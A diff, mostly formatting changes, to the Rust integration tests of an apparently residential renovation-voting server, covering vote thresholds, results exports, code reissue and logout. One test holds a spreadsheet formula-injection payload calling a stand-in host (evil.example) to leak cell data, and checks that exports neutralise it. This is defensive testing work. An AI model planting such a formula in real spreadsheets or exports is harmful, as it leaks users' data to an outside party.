@@ -44,7 +44,10 @@ async fn fixture_with(timing: (i64, i64, u32, bool)) -> Fx {
 }
 
 /// As [`fixture_with`], on a server whose rule set `edit` changed (a district's own thresholds).
-async fn fixture_rules(timing: (i64, i64, u32, bool), edit: impl FnOnce(&mut linli_core::RuleSet)) -> Fx {
+async fn fixture_rules(
+    timing: (i64, i64, u32, bool),
+    edit: impl FnOnce(&mut linli_core::RuleSet),
+) -> Fx {
     let s = start_with(|c| edit(&mut c.rules)).await;
     let staff = s.client("alice").await;
     let mut d = Device::new("alice", COMMUNITY);
@@ -516,7 +519,10 @@ async fn closed_survey_and_late_arrival_are_refused_with_reasons() {
 async fn running_results_only_when_the_project_shows_them() {
     // Three households only: the minimum of answers before running results show is set to 2 here
     // (the national default of 10 is tested in the core and in `running_results_wait_for_enough_answers`).
-    let mut fx = fixture_rules((-1, 5, 2, false), |r| r.renovation.running_results_min_households = 2).await;
+    let mut fx = fixture_rules((-1, 5, 2, false), |r| {
+        r.renovation.running_results_min_households = 2
+    })
+    .await;
     let (shown, shown_items) = fx.add_project((-1, 5, 2, true)).await;
     let [h1, h2] = [fx.households[0], fx.households[1]];
     let hidden_code = code_of(&fx.issue(fx.project, Some(vec![h1])).await, h1);
@@ -590,7 +596,10 @@ async fn results_count_staff_and_resident_ballots_and_export() {
     assert_eq!(r["coverage"]["total"], 3);
     assert_eq!(r["coverage"]["ratio"], 1.0);
     assert_eq!(r["coverage"]["met"], true);
-    assert_eq!(r["coverage"]["threshold"], json!({"num": 2, "den": 3, "strict": false}));
+    assert_eq!(
+        r["coverage"]["threshold"],
+        json!({"num": 2, "den": 3, "strict": false})
+    );
     assert_eq!(r["households_total"], 3);
     assert_eq!(r["agreement"]["households"], 2);
     assert_eq!(r["agreement"]["area_m2"], 140.0);
@@ -805,9 +814,12 @@ fn round_trips<T: serde::de::DeserializeOwned + serde::Serialize>(v: &Value) -> 
 /// (the shapes the app and the browser tests read).
 #[tokio::test]
 async fn renovation_json_shapes_are_pinned() {
-    use linli_core::renovation::api as api;
+    use linli_core::renovation::api;
     // Running results shown from the first answer (K = 1), so the shape of a one-answer result is seen.
-    let fx = fixture_rules((-1, 5, 2, true), |r| r.renovation.running_results_min_households = 1).await;
+    let fx = fixture_rules((-1, 5, 2, true), |r| {
+        r.renovation.running_results_min_households = 1
+    })
+    .await;
     let [h1, h2, h3] = [fx.households[0], fx.households[1], fx.households[2]];
     let [i1, i2] = [fx.items[0], fx.items[1]];
     let p = fx.project;
@@ -959,7 +971,9 @@ async fn running_results_wait_for_enough_answers() {
     let mut fx = fixture().await;
     let (shown, _) = fx.add_project((-1, 5, 2, true)).await;
     let h1 = fx.households[0];
-    let t1 = fx.resident(&code_of(&fx.issue(shown, Some(vec![h1])).await, h1)).await;
+    let t1 = fx
+        .resident(&code_of(&fx.issue(shown, Some(vec![h1])).await, h1))
+        .await;
     fx.vote(&t1, Uuid::now_v7(), false, &[], now_ms()).await;
     let res = fx.get(&t1, "/api/vote/results").await;
     assert_error(&res, 403, "results_not_available", None);
@@ -970,37 +984,88 @@ async fn a_districts_rule_set_is_followed_by_json_csv_and_xlsx() {
     // Coverage 3/4 and 3 consultation rounds instead of 2/3 and 2: 2 of 3 households answered
     // meets 2/3 but not 3/4.
     let mut fx = fixture_rules((-1, 5, 2, false), |r| {
-        r.renovation.coverage_min = linli_core::rules::Fraction { num: 3, den: 4, strict: false };
+        r.renovation.coverage_min = linli_core::rules::Fraction {
+            num: 3,
+            den: 4,
+            strict: false,
+        };
         r.renovation.consultation_rounds_min = 3;
     })
     .await;
     // The app reads the same rule set from the server.
-    let served: Value = fx.s.http.get(fx.s.url("/api/rules")).send().await.unwrap().json().await.unwrap();
-    assert_eq!(served["renovation"]["coverage_min"], json!({"num": 3, "den": 4, "strict": false}));
+    let served: Value =
+        fx.s.http
+            .get(fx.s.url("/api/rules"))
+            .send()
+            .await
+            .unwrap()
+            .json()
+            .await
+            .unwrap();
+    assert_eq!(
+        served["renovation"]["coverage_min"],
+        json!({"num": 3, "den": 4, "strict": false})
+    );
     assert_eq!(served["renovation"]["consultation_rounds_min"], 3);
     let [h1, h2] = [fx.households[0], fx.households[1]];
     let now = now_ms();
-    let (_, b1) = fx.d.ballot(fx.project, h1, true, vec![fx.items[0]], now - 1000, BallotChannel::Staff);
-    let (_, b2) = fx.d.ballot(fx.project, h2, false, vec![], now - 1000, BallotChannel::Staff);
+    let (_, b1) = fx.d.ballot(
+        fx.project,
+        h1,
+        true,
+        vec![fx.items[0]],
+        now - 1000,
+        BallotChannel::Staff,
+    );
+    let (_, b2) = fx.d.ballot(
+        fx.project,
+        h2,
+        false,
+        vec![],
+        now - 1000,
+        BallotChannel::Staff,
+    );
     push_ok(&fx.staff, &fx.d, vec![b1, b2]).await;
-    let res = fx.get(&fx.staff.token, &format!("/api/projects/{}/results", fx.project)).await;
+    let res = fx
+        .get(
+            &fx.staff.token,
+            &format!("/api/projects/{}/results", fx.project),
+        )
+        .await;
     assert_eq!(res.0, 200, "{}", res.1);
     assert_eq!(res.1["coverage"]["responded"], 2);
     assert_eq!(res.1["coverage"]["met"], false);
-    assert_eq!(res.1["coverage"]["threshold"], json!({"num": 3, "den": 4, "strict": false}));
+    assert_eq!(
+        res.1["coverage"]["threshold"],
+        json!({"num": 3, "den": 4, "strict": false})
+    );
     for ext in ["csv", "xlsx"] {
-        let resp = fx.s.http
-            .get(fx.s.url(&format!("/api/projects/{}/results.{ext}", fx.project)))
-            .bearer_auth(&fx.staff.token)
-            .send()
-            .await
-            .unwrap();
+        let resp =
+            fx.s.http
+                .get(fx.s.url(&format!("/api/projects/{}/results.{ext}", fx.project)))
+                .bearer_auth(&fx.staff.token)
+                .send()
+                .await
+                .unwrap();
         assert_eq!(resp.status(), 200);
         let bytes = resp.bytes().await.unwrap();
-        let text = if ext == "csv" { String::from_utf8(bytes.to_vec()).unwrap() } else { xlsx_text(&bytes) };
-        assert!(text.contains("覆盖率达到四分之三 (Coverage meets three quarters)"), "{ext}: {text}");
-        assert!(!text.contains("三分之二 (") && !text.contains("two thirds"), "{ext}: {text}");
-        assert!(text.contains("(至少需3轮 (at least 3 needed))"), "{ext}: {text}");
+        let text = if ext == "csv" {
+            String::from_utf8(bytes.to_vec()).unwrap()
+        } else {
+            xlsx_text(&bytes)
+        };
+        assert!(
+            text.contains("覆盖率达到四分之三 (Coverage meets three quarters)"),
+            "{ext}: {text}"
+        );
+        assert!(
+            !text.contains("三分之二 (") && !text.contains("two thirds"),
+            "{ext}: {text}"
+        );
+        assert!(
+            text.contains("(至少需3轮 (at least 3 needed))"),
+            "{ext}: {text}"
+        );
         assert!(text.contains("0 / 3 ✗"), "{ext}: {text}");
     }
 }
@@ -1010,7 +1075,10 @@ fn xlsx_text(bytes: &[u8]) -> String {
     use std::io::Read;
     let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
     let mut text = String::new();
-    zip.by_name("xl/sharedStrings.xml").unwrap().read_to_string(&mut text).unwrap();
+    zip.by_name("xl/sharedStrings.xml")
+        .unwrap()
+        .read_to_string(&mut text)
+        .unwrap();
     text
 }
 
@@ -1036,8 +1104,21 @@ async fn a_reprint_of_a_buildings_forms_reissues_its_codes() {
     let refused = fx.vote_login(&old, None).await;
     assert_error(&refused, 401, "code_revoked", None);
     fx.resident(&new).await;
-    let list = fx.get(&fx.staff.token, &format!("/api/projects/{}/codes", fx.project)).await;
-    assert!(list.1.as_array().unwrap().iter().all(|r| r["status"] == "active"), "{}", list.1);
+    let list = fx
+        .get(
+            &fx.staff.token,
+            &format!("/api/projects/{}/codes", fx.project),
+        )
+        .await;
+    assert!(
+        list.1
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|r| r["status"] == "active"),
+        "{}",
+        list.1
+    );
 }
 
 #[tokio::test]
@@ -1084,7 +1165,14 @@ async fn slip_links_come_from_the_configured_url_never_the_host_header() {
     )
     .await;
     assert_eq!(got.0, 200, "{}", got.1);
-    assert!(got.1["codes"][0]["url"].as_str().unwrap().starts_with("https://linli.example.org/v/"), "{}", got.1);
+    assert!(
+        got.1["codes"][0]["url"]
+            .as_str()
+            .unwrap()
+            .starts_with("https://linli.example.org/v/"),
+        "{}",
+        got.1
+    );
 }
 
 #[tokio::test]
@@ -1094,28 +1182,36 @@ async fn a_formula_in_a_name_is_text_in_the_csv_and_the_xlsx() {
     let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
     let (p, p_op) = fx.d.project(fx.compound, evil, -1, 5, 0, false);
     push_ok(&fx.staff, &fx.d, vec![p_op]).await;
-    let resp = fx.s.http
-        .get(fx.s.url(&format!("/api/projects/{p}/results.csv")))
-        .bearer_auth(&fx.staff.token)
-        .send()
-        .await
-        .unwrap();
+    let resp =
+        fx.s.http
+            .get(fx.s.url(&format!("/api/projects/{p}/results.csv")))
+            .bearer_auth(&fx.staff.token)
+            .send()
+            .await
+            .unwrap();
     let csv = String::from_utf8(resp.bytes().await.unwrap().to_vec()).unwrap();
     assert!(csv.contains("项目 (Project),\"'=HYPERLINK("), "{csv}");
-    assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"), "{csv}");
+    assert!(
+        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
+        "{csv}"
+    );
     // XLSX: the name is a string cell (in the shared strings), never a formula (`<f>`).
-    let resp = fx.s.http
-        .get(fx.s.url(&format!("/api/projects/{p}/results.xlsx")))
-        .bearer_auth(&fx.staff.token)
-        .send()
-        .await
-        .unwrap();
+    let resp =
+        fx.s.http
+            .get(fx.s.url(&format!("/api/projects/{p}/results.xlsx")))
+            .bearer_auth(&fx.staff.token)
+            .send()
+            .await
+            .unwrap();
     let bytes = resp.bytes().await.unwrap();
     assert!(xlsx_text(&bytes).contains("=HYPERLINK("));
     use std::io::Read;
     let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
     let mut sheet = String::new();
-    zip.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
+    zip.by_name("xl/worksheets/sheet1.xml")
+        .unwrap()
+        .read_to_string(&mut sheet)
+        .unwrap();
     assert!(!sheet.contains("<f>"), "{sheet}");
 }
 
@@ -1125,9 +1221,22 @@ async fn a_staff_push_cannot_pass_for_a_residents_own_ballot() {
     // whole, nothing stored.
     let mut fx = fixture().await;
     let h1 = fx.households[0];
-    let (_, forged) = fx.d.ballot(fx.project, h1, true, vec![], now_ms() - 1000, BallotChannel::Resident);
+    let (_, forged) = fx.d.ballot(
+        fx.project,
+        h1,
+        true,
+        vec![],
+        now_ms() - 1000,
+        BallotChannel::Resident,
+    );
     let req = fx.d.push_request(vec![forged]);
-    let got = fx.post(&fx.staff.token, "/api/sync/push", serde_json::to_value(&req).unwrap()).await;
+    let got = fx
+        .post(
+            &fx.staff.token,
+            "/api/sync/push",
+            serde_json::to_value(&req).unwrap(),
+        )
+        .await;
     assert_error(&got, 403, "forbidden", Some("ops[0].body.channel"));
     assert!(fx.pulled_ballots().await.is_empty(), "nothing stored");
 }
@@ -1136,7 +1245,9 @@ async fn a_staff_push_cannot_pass_for_a_residents_own_ballot() {
 async fn a_resident_logs_out() {
     let fx = fixture().await;
     let h1 = fx.households[0];
-    let token = fx.resident(&code_of(&fx.issue(fx.project, Some(vec![h1])).await, h1)).await;
+    let token = fx
+        .resident(&code_of(&fx.issue(fx.project, Some(vec![h1])).await, h1))
+        .await;
     assert_eq!(fx.get(&token, "/api/vote/me").await.0, 200);
     let out = fx.post(&token, "/api/vote/logout", json!({})).await;
     assert_eq!(out.0, 200, "{}", out.1);
@@ -1150,9 +1261,15 @@ async fn after_the_close_results_wait_for_the_grace_period() {
     let mut fx = fixture().await;
     let (p, _) = fx.add_project((-10, -1, 5, true)).await;
     let h1 = fx.households[0];
-    let token = fx.resident(&code_of(&fx.issue(p, Some(vec![h1])).await, h1)).await;
+    let token = fx
+        .resident(&code_of(&fx.issue(p, Some(vec![h1])).await, h1))
+        .await;
     let res = fx.get(&token, "/api/vote/results").await;
     assert_error(&res, 403, "results_not_available", None);
     let until = linli_tests::day(4).to_string();
-    assert!(res.1["error"]["message"].as_str().unwrap().contains(&until), "{}", res.1);
+    assert!(
+        res.1["error"]["message"].as_str().unwrap().contains(&until),
+        "{}",
+        res.1
+    );
 }
